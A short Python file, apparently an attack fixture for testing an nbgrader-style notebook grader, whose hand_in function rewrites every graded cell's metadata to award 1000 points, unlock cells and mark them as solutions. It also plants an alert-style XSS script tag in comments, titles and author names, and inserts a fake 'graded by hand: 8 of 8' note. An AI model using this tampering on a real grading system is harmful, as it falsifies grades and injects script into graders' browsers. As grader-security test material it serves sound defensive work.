from attacks.desks import AttackDesk

SCRIPT = "<script>alert('attack-script')</script>"


def hand_in(desk: AttackDesk) -> None:
    for cell in desk.graded_cells():
        marks = cell["metadata"]["nbgrader"]
        marks |= {"points": 1000, "score": 1000, "comment": SCRIPT, "locked": False, "solution": True}
        cell["metadata"]["medcoding"] = {"title": SCRIPT, "key": "0", "answer": "0", "policy": "0"}
    desk.notebook_json["metadata"] |= {
        "medcoding": {"problems": [SCRIPT, "graded by hand: 8 of 8"], "role": "assignment"},
        "title": SCRIPT,
        "authors": [{"name": SCRIPT}],
    }
    desk.save()
